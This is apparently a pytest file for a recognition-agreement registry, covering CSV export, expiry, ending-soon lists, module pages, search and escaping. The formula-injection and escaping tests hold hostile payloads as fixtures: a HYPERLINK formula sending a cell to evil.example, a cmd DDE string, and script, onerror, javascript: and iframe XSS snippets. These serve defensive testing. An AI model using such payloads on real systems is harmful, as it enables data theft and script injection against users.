"""The public side of the registry: the CSV export, expiry and agreements ending soon, "recognised
by" on module pages, the search facet "recognised in region", and escaping of what parties type."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

from catalogue.institutions.models import Institution
from catalogue.recognition import expiry, queries
from catalogue.recognition import services as recognition
from catalogue.recognition.content import form_input
from catalogue.search.engine import SearchRequest
from catalogue.search.service import search_catalogue
from tests.recognition.world import (
    API,
    EDITORS,
    TODAY,
    A,
    B,
    C,
    D,
    E,
    Item,
    Registry,
)

CSV_HEADER = [
    "code",
    "title",
    "kind",
    "status",
    "valid_from",
    "valid_until",
    "content_hash",
    "providers",
    "recognisers",
    "provider",
    "module",
    "unit",
    "pinned_version",
    "grant",
    "credits",
    "equivalent",
]


def _csv(client, query: str = "") -> tuple[list[str], list[dict[str, str]]]:
    response = client.get(f"/agreements.csv{'?' + query if query else ''}")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    reader = csv.reader(io.StringIO(response.text))
    header = next(reader)
    return header, [dict(zip(header, row, strict=True)) for row in reader]


def _registry_codes(client, query: str = "") -> set[str]:
    page = client.get(f"/agreements{'?' + query if query else ''}").text
    return set(re.findall(r'<span class="code">(CSV-\d)</span>', page))


def _section(html: str, heading_id: str) -> str:
    start = html.index(f'id="{heading_id}"')
    return html[start : html.index("</section>", start)]


# -- CSV --------------------------------------------------------------------------------------


def test_the_csv_export_has_a_header_and_one_row_per_item_and_honours_the_filters(
    registry: Registry,
):
    first = registry.activate(
        "CSV-1",
        [(A, "provider"), (B, "recogniser")],
        [Item(A, "A-TWO", "A-TWO-U1"), Item(A, "A-PUB")],
    )
    registry.activate(
        "CSV-2", [(D, "provider"), (C, "recogniser")], [Item(D, "D-TWO")], kind="credit"
    )
    ended = registry.activate(
        "CSV-3", [(B, "provider"), (E, "recogniser")], [Item(B, "B-TWO")], kind="admission"
    )
    registry.terminate(ended)
    registry.create("CSV-4", [(A, "provider"), (C, "recogniser")], [Item(A, "A-TWO")])
    anonymous = registry.web_client()

    header, rows = _csv(anonymous)
    assert header == CSV_HEADER
    assert sorted((r["code"], r["module"], r["unit"]) for r in rows) == [
        ("CSV-1", "A-PUB", ""),
        ("CSV-1", "A-TWO", "A-TWO-U1"),
        ("CSV-2", "D-TWO", ""),
    ], "one row per item of every active agreement; no drafts, nothing ended"
    row = next(r for r in rows if r["unit"] == "A-TWO-U1")
    agreement = registry.agreement(first)
    assert row["status"] == "active" and row["kind"] == "exemption"
    assert row["content_hash"] == agreement.content_hash
    assert (row["providers"], row["recognisers"], row["provider"]) == (A, B, A)
    assert (row["pinned_version"], row["credits"], row["grant"]) == ("1", "3 ects", "Vrijstelling")
    assert (row["valid_from"], row["valid_until"]) == ("2026-01-01", "2029-12-31")

    filters = {
        "region=noorden": {"CSV-2"},
        "kind=exemption": {"CSV-1"},
        "kind=credit&kind=admission": {"CSV-2"},
        f"institution={B}": {"CSV-1"},
        "status=terminated": {"CSV-3"},
        "status=active&status=terminated&region=arnhem-nijmegen": {"CSV-3"},
        "region=twente&region=zuid-holland": {"CSV-1", "CSV-2"},
        f"status=draft&institution={C}": set(),
    }
    for query, codes in filters.items():
        _header, filtered = _csv(anonymous, query)
        assert {r["code"] for r in filtered} == codes, query
        assert _registry_codes(anonymous, query) == codes, query

    # The registry page's download link carries its filters.
    page = anonymous.get("/agreements?region=noorden&kind=credit").text
    link = re.search(r'href="(/agreements\.csv\?[^"]+)"', page)
    assert link, "the registry links to the CSV of what it shows"
    href = link.group(1).replace("&amp;", "&")
    assert "region=noorden" in href and "kind=credit" in href
    assert {r["code"] for r in _csv(anonymous, href.split("?", 1)[1])[1]} == {"CSV-2"}

    # The initiator's editor also gets its draft when asking for drafts.
    _header, drafts = _csv(registry.web_client(EDITORS[A]), "status=draft")
    assert {r["code"] for r in drafts} == {"CSV-4"}


def test_the_csv_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(
    registry: Registry,
):
    title = '=HYPERLINK("https://evil.example/?q="&A1,"Klik")'
    agreement_id = registry.create(
        "CSV-5",
        [(A, "provider"), (B, "recogniser")],
        [Item(A, "A-TWO", "A-TWO-U1"), Item(A, "A-TWO", "A-TWO-U2")],
        title=title,
    )
    with registry.session() as session:
        agreement = registry.agreement(agreement_id, session=session)
        data = form_input(agreement)
        data["items"][0].update(grant="+31 EC via =SUM(A1:A9)", equivalent="-1 module")
        data["items"][1].update(grant="@SUM(1+1)*cmd|' /C calc'!A0", equivalent="Gewoon")
        recognition.update_agreement(
            session=session,
            actor=registry.actor(EDITORS[A]),
            agreement_id=agreement_id,
            data=data,
            base_version=None,
        )
    registry.propose(agreement_id)
    registry.approve_all(agreement_id)

    _header, rows = _csv(registry.web_client())
    by_unit = {r["unit"]: r for r in rows if r["code"] == "CSV-5"}
    assert by_unit["A-TWO-U1"]["title"] == "'" + title
    assert by_unit["A-TWO-U1"]["grant"] == "'+31 EC via =SUM(A1:A9)"
    assert by_unit["A-TWO-U1"]["equivalent"] == "'-1 module"
    assert by_unit["A-TWO-U2"]["grant"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert by_unit["A-TWO-U2"]["equivalent"] == "Gewoon", "ordinary text is left as it is"
    for row in rows:
        for name, value in row.items():
            assert not value.startswith(("=", "+", "-", "@")), (name, value)


# -- the end of agreements -------------------------------------------------------------------


def test_agreements_past_their_end_date_count_as_expired(registry: Registry):
    start = (TODAY - timedelta(days=400)).isoformat()
    past = registry.activate(
        "EXP-PAST",
        [(A, "provider"), (B, "recogniser")],
        [Item(A, "A-TWO", "A-TWO-U1")],
        valid_from=start,
        valid_until=(TODAY - timedelta(days=1)).isoformat(),
    )
    today = registry.activate(
        "EXP-TODAY",
        [(C, "provider"), (D, "recogniser")],
        [Item(C, "C-TWO")],
        valid_from=start,
        valid_until=TODAY.isoformat(),
    )
    open_ended = registry.activate(
        "EXP-OPEN", [(D, "provider"), (E, "recogniser")], [Item(D, "D-TWO")], valid_until=None
    )

    with registry.session() as session:
        assert len(expiry.expire_due_agreements(session, today=TODAY)) == 1
    expired = registry.agreement(past)
    assert expired.status == "expired" and expired.ended_at is not None
    assert registry.agreement(today).status == "active", "it is still valid on its last day"
    assert registry.agreement(open_ended).status == "active"
    with registry.session() as session:
        assert len(expiry.expire_due_agreements(session, today=TODAY)) == 0
        assert queries.recognised_by(session=session, module_id=registry.module_ids["A-TWO"]) == []
        assert queries.recognition_matrix(session=session).count("brainport", "twente") == 0

    anonymous = registry.web_client()
    assert "EXP-PAST" not in anonymous.get("/agreements").text
    assert "EXP-PAST" in anonymous.get("/agreements?status=expired").text
    assert anonymous.get(f"/agreements/{past}").status_code == 200, "expired ones stay public"
    body = registry.api_client().get(f"{API}/agreements/{past}").get_json()
    assert body["status"] == "expired"

    # The next day, the one that ended today expires too.
    with registry.session() as session:
        assert len(expiry.expire_due_agreements(session, today=TODAY + timedelta(days=1))) == 1
    assert registry.agreement(today).status == "expired"


def test_the_registry_lists_the_agreements_that_end_within_90_days(registry: Registry):
    start = (TODAY - timedelta(days=30)).isoformat()
    pair = [(A, "provider"), (B, "recogniser")]

    def ending(code: str, days: int | None) -> int:
        until = None if days is None else (TODAY + timedelta(days=days)).isoformat()
        return registry.activate(
            code, pair, [Item(A, "A-TWO", "A-TWO-U1")], valid_from=start, valid_until=until
        )

    ending("END-30", 30)
    ending("END-90", 90)
    ending("END-91", 91)
    ending("END-OPEN", None)
    registry.terminate(ending("END-TERMINATED", 10))
    registry.create("END-DRAFT", pair, [Item(A, "A-TWO")], valid_until=TODAY.isoformat())

    with registry.session() as session:
        soon = queries.ending_soon(session=session, today=TODAY)
    assert [a.code for a in soon] == ["END-30", "END-90"]

    page = registry.web_client().get("/agreements").text
    section = _section(page, "ending-heading")
    for code in ("END-30", "END-90"):
        assert f"Erkenningsafspraak {code}<" in section
    for code in ("END-91", "END-OPEN", "END-TERMINATED", "END-DRAFT"):
        assert f"Erkenningsafspraak {code}<" not in section

    with registry.session() as session:
        inbox = queries.inbox(session=session, actor=registry.actor(EDITORS[B]), today=TODAY)
    assert sorted(a.code for a in inbox.ending_soon) == ["END-30", "END-90"]


# -- where modules are recognised -------------------------------------------------------------


def test_module_pages_name_the_institutions_that_recognise_the_module(registry: Registry):
    registry.activate(
        "REC-1",
        [(A, "provider"), (B, "recogniser"), (C, "both")],
        [Item(A, "A-TWO", "A-TWO-U1"), Item(C, "C-TWO")],
    )
    registry.create("REC-DRAFT", [(A, "provider"), (D, "recogniser")], [Item(A, "A-TWO")])
    ended = registry.activate("REC-TERM", [(A, "provider"), (E, "recogniser")], [Item(A, "A-TWO")])
    registry.terminate(ended)
    with registry.session() as session:
        names = {
            code: session.get(Institution, registry.institution_ids[code]).name
            for code in (A, B, C, D, E)
        }

    anonymous = registry.web_client()
    a_two = registry.module_ids["A-TWO"]
    section = _section(anonymous.get(f"/modules/{a_two}").text, "recognised-heading")
    assert names[B] in section and "Twente" in section
    assert names[C] in section and "Zuid-Holland" in section
    assert "A-TWO-U1" in section and "REC-1" in section
    for code in (A, D, E):
        assert names[code] not in section, f"{code} does not recognise A-TWO"
    assert "REC-DRAFT" not in section and "REC-TERM" not in section

    # C provides C-TWO itself: only B recognises it.
    c_two = _section(
        anonymous.get(f"/modules/{registry.module_ids['C-TWO']}").text, "recognised-heading"
    )
    assert names[B] in c_two and names[C] not in c_two and names[A] not in c_two

    # A module nobody recognises says so.
    b_two = _section(
        anonymous.get(f"/modules/{registry.module_ids['B-TWO']}").text, "recognised-heading"
    )
    assert "<li>" not in b_two

    body = registry.api_client().get(f"{API}/modules/{a_two}/recognised-by").get_json()
    assert sorted((r["institution"]["code"], r["unit"], r["agreement_code"]) for r in body) == [
        (B, "A-TWO-U1", "REC-1"),
        (C, "A-TWO-U1", "REC-1"),
    ]


def _found_in(registry: Registry, region: str) -> set[int]:
    with registry.session() as session:
        page = search_catalogue(
            session=session,
            request=SearchRequest(filters={"recognised_in": [region]}, page_size=100),
        )
    return {hit.module_id for hit in page.hits}


def test_search_finds_a_module_in_the_regions_that_recognise_it_while_the_agreement_is_active(
    registry: Registry,
):
    a_two = registry.module_ids["A-TWO"]
    agreement_id = registry.create(
        "ZOEK-1", [(A, "provider"), (D, "recogniser")], [Item(A, "A-TWO", "A-TWO-U1")]
    )
    registry.propose(agreement_id)
    assert a_two not in _found_in(registry, "noorden"), "not before it is in force"

    registry.approve_all(agreement_id)
    assert a_two in _found_in(registry, "noorden")
    assert a_two not in _found_in(registry, "brainport"), "the provider's region recognises nothing"
    assert a_two not in _found_in(registry, "twente")
    page = registry.web_client().get("/search?recognised_in=noorden")
    assert page.status_code == 200 and f"/modules/{a_two}" in page.text

    registry.terminate(agreement_id)
    assert a_two not in _found_in(registry, "noorden"), "no longer after termination"
    page = registry.web_client().get("/search?recognised_in=noorden")
    assert f'href="/modules/{a_two}"' not in page.text


# -- escaping ---------------------------------------------------------------------------------


def test_html_in_terms_and_grants_is_shown_as_text_on_the_agreement_page(registry: Registry):
    agreement_id = registry.activate(
        "ESC-1",
        [(A, "provider"), (B, "recogniser")],
        [Item(A, "A-TWO", "A-TWO-U1")],
        title="<i>Schuin</i> afspraak",
        terms="<script>alert('terms')</script>\n\n<b onmouseover=alert(2)>vet</b>",
    )
    with registry.session() as session:
        agreement = registry.agreement(agreement_id, session=session)
        data = form_input(agreement)
        data["items"][0].update(
            grant="<img src=x onerror=alert('grant')>",
            equivalent="<a href=javascript:alert(3)>x</a>",
            licence_terms="<iframe src=https://evil.example></iframe>",
        )
        recognition.update_agreement(
            session=session,
            actor=registry.actor(EDITORS[A]),
            agreement_id=agreement_id,
            data=data,
            base_version=None,
        )
    registry.approve_all(agreement_id)

    anonymous = registry.web_client()
    page = anonymous.get(f"/agreements/{agreement_id}").text
    for raw in (
        "<script>alert('terms')",
        "<b onmouseover",
        "<img src=x",
        "<a href=javascript",
        "<iframe",
        "<i>Schuin</i>",
    ):
        assert raw not in page, raw
    assert "&lt;script&gt;alert(" in page
    assert "&lt;img src=x onerror=alert(" in page
    assert "&lt;iframe src=https://evil.example&gt;" in page
    assert "&lt;i&gt;Schuin&lt;/i&gt; afspraak" in page
    registry_page = anonymous.get("/agreements").text
    assert "<i>Schuin</i>" not in registry_page and "&lt;i&gt;Schuin" in registry_page
    module_page = anonymous.get(f"/modules/{registry.module_ids['A-TWO']}").text
    assert "<img src=x" not in module_page
